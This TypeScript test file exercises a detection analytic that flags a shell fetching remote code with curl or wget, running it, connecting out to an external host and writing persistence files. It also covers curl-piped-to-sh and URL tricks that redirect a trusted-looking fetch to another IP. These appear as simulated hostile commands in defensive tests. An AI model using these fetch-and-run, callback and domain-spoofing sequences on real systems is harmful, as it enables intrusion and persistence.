import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { type Process, UNSET } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const URL_OUT = 'https://cdn.example.com/env';

/** A person who browsed some minutes ago, at a shell; mail for example.org is delivered on this host. */
function browsed(): { log: HostLog; shell: Process } {
  const log = new HostLog();
  log.deliver({ to: 'dev' });
  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
  log.wait(5 * MINUTE);
  return { log, shell: log.shell('dev') };
}

const alertsOf = async (log: HostLog): Promise<Alert[]> =>
  (await scanLog(log)).filter(alert => alert.analytic === 'AN0321');
const quiet = async (log: HostLog, why: string): Promise<void> => assert.deepEqual(await alertsOf(log), [], why);

for (const words of [`/usr/bin/curl -sk ${URL_OUT}`, `/usr/bin/curl ${URL_OUT}`, `/usr/bin/wget -qO- ${URL_OUT}`])
  test(`a shell that connects by itself right after ${words} runs what was fetched`, async () => {
    const { log, shell } = browsed();
    shell.run(words).connect('203.0.113.81', 443);
    shell.connect(OUT, 9001).run('/usr/bin/uname -a');
    shell.write('/home/dev/.bashrc');
    const alert = firesAt(await alertsOf(log), 'AN0321', 'high');
    assert.deepEqual(
      alert.steps.map(step => step.kind),
      [
        'network.connected',
        'process.started',
        'process.input',
        'content.executed',
        'network.connected',
        'persistence.written',
      ],
    );
    assert.match(alert.steps[0]?.summary ?? '', /firefox .* connects to 203\.0\.113\.80:443$/);
    assert.ok(alert.missing.some(text => text.includes(URL_OUT)));
  });

test('the shell does its person’s work again a while later', async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/curl -s ${URL_OUT}`).connect('203.0.113.81', 443);
  shell.connect(OUT, 9001);
  log.wait(MINUTE);
  shell.write('/home/dev/.bashrc');
  const alert = firesAt(await alertsOf(log), 'AN0321', 'high');
  assert.ok(!alert.steps.some(step => step.kind === 'persistence.written'));
});

test('a shell whose fetch is something else takes nothing in', async () => {
  for (const [why, act] of [
    [
      'a while later',
      (log, shell) => {
        shell.run(`/usr/bin/curl -s ${URL_OUT}`).connect('203.0.113.81', 443);
        log.wait(2000);
        shell.connect(OUT, 9001);
      },
    ],
    [
      'kept in a file',
      (_log, shell) => {
        shell.run(`/usr/bin/curl -so env ${URL_OUT}`).connect('203.0.113.81', 443);
        shell.connect(OUT, 9001);
      },
    ],
    [
      'redirected into a file',
      (_log, shell) => {
        shell.fork().write('/home/dev/env').exec(`/usr/bin/curl -s ${URL_OUT}`).connect('203.0.113.81', 443);
        shell.connect(OUT, 9001);
      },
    ],
    [
      'the fetch reached nobody',
      (_log, shell) => {
        shell.run(`/usr/bin/curl -s ${URL_OUT}`);
        shell.connect(OUT, 9001);
      },
    ],
    [
      'this very host',
      (_log, shell) => {
        shell.run(`/usr/bin/curl -s ${URL_OUT}`).connect('203.0.113.81', 443);
        shell.connect('127.0.0.1', 5432);
      },
    ],
    [
      'a script, whose author wrote both',
      (_log, shell) => {
        const script = shell.run('/bin/bash /usr/local/bin/probe');
        script.run(`/usr/bin/curl -s ${URL_OUT}`).connect('203.0.113.81', 443);
        script.connect(OUT, 9001);
      },
    ],
  ] as [string, (log: HostLog, shell: Process) => void][]) {
    const { log, shell } = browsed();
    act(log, shell);
    await quiet(log, why);
  }
});

test('what a program saves into a file is not the short text of the next command', async () => {
  const { log, shell } = browsed();
  shell.run('/usr/bin/wget -q https://cdn.example.com/table.csv').connect('203.0.113.81', 443);
  log.wait(1000);
  shell.run(['/usr/bin/python3', '-c', 'print(open("table.csv").read())']).connect(OUT, 443);
  await quiet(log, 'a file of the last part of its URL');
});

/** A fetched script goes on in a child that `as` tells of. */
function left(as: (perl: Process, log: HostLog) => Process): HostLog {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/wget -q -O /dev/shm/.t ${URL_OUT}`).connect('203.0.113.81', 443).write('/dev/shm/.t');
  const perl = shell.run('/usr/bin/perl /dev/shm/.t').read('/dev/shm/.t');
  const child = as(perl, log);
  child.connect(OUT, 8443).write('/home/dev/.bash_aliases');
  return log;
}

test('what a program leaves to pid 1 and goes on in belongs to it, though it sleeps a while', async () => {
  const alert = firesAt(
    await alertsOf(
      left((perl, log) => {
        const child = perl.fork({ ...perl.who, tty: '(none)' }).orphan();
        log.wait(10 * MINUTE);
        return child;
      }),
    ),
    'AN0321',
    'high',
  );
  assert.deepEqual(alert.steps.map(step => step.kind).slice(-2), ['network.connected', 'persistence.written']);
  assert.ok(alert.missing.some(text => text.includes(URL_OUT)));
});

test('an orphan of another login, program or account, or with a program of its own, is nobody’s child', async () => {
  for (const [why, as] of [
    ['another login', perl => perl.fork({ ...perl.who, ses: 99 }).orphan()],
    ['outside any login', perl => perl.fork({ ...perl.who, ses: UNSET, auid: UNSET }).orphan()],
    ['another account', perl => perl.fork({ ...perl.who, uid: 1003 }).orphan()],
    ['started by itself', perl => perl.fork().orphan().exec('/usr/bin/perl /usr/share/own.pl')],
    [
      'long after',
      (perl, log) => {
        const child = perl.fork().orphan();
        log.wait(61 * MINUTE);
        return child;
      },
    ],
  ] as [string, (perl: Process, log: HostLog) => Process][]) {
    const [alert] = await alertsOf(left(as));
    assert.ok(!alert?.steps.some(step => step.kind === 'network.connected'), why);
  }
});

const OWN = 'http://backup.example.org/setup.sh';

/** How loud `curl … | sh` is after browsing, with what its lines do. */
async function pasted(words: string, act: (sh: Process) => void = () => {}): Promise<string | undefined> {
  const { log, shell } = browsed();
  const [curl, sh] = shell.pipeline(`/usr/bin/curl ${words}`, '/bin/sh');
  curl?.connect('198.51.100.30', 80);
  if (sh !== undefined) act(sh);
  return (await alertsOf(log))[0]?.severity;
}

test('what comes from a host of the own mail domain came by no service of others', async () => {
  assert.equal(await pasted(`-fsS ${OWN}`), 'informational');
  assert.equal(await pasted(`-fsSL ${OWN}`, sh => void sh.connect('198.51.100.30', 80)), 'informational');
  assert.equal(await pasted(`-fsS ${OWN}`, sh => void sh.connect(OUT, 9001)), 'low');
  assert.equal(await pasted(`-fsS ${OWN}`, sh => void sh.write('/home/dev/.config/autostart/a.desktop')), 'low');
});

test('a name that only looks like it, or words that send the fetch elsewhere, are no own host', async () => {
  for (const words of [
    'http://backup.example.org.example.net/setup.sh',
    'http://backupexample.org/setup.sh',
    'http://backup.example.org@203.0.113.66/setup.sh',
    `-x http://203.0.113.66:8080 ${OWN}`,
    `--resolve backup.example.org:80:203.0.113.66 ${OWN}`,
    `-e ${OWN} http://203.0.113.66/setup.sh`,
    `${OWN} http://203.0.113.66/setup.sh`,
  ])
    assert.equal(await pasted(words), 'medium', words);
});
